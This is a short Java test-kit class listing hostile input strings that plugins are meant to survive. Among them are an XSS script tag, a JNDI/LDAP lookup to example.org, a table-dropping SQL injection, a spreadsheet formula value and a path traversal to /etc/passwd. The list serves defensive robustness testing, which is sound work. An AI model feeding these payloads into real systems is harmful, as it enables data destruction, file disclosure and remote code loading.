package org.takeup.plugin.testkit;

import java.util.List;

/** Texts that people and other systems send by mistake or on purpose. */
final class Hostile {
    /** Each is a legal text of Java; none of them must make a plugin fail. */
    static final List<String> TEXTS = List.of(
            "<script>alert(1)</script>",
            "${jndi:ldap://example.org/x}",
            "%s%n%d {0} {name} $1 \\",
            "'; DROP TABLE people; --",
            "=1+1",
            "../../etc/passwd",
            "\u202Eleft to right\u202C",
            "a\u0000b",
            "two\nlines\r\n",
            "\uD83D\uDE00 e\u0301",
            "\uD800",
            "x".repeat(20_000));

    private Hostile() {}
}
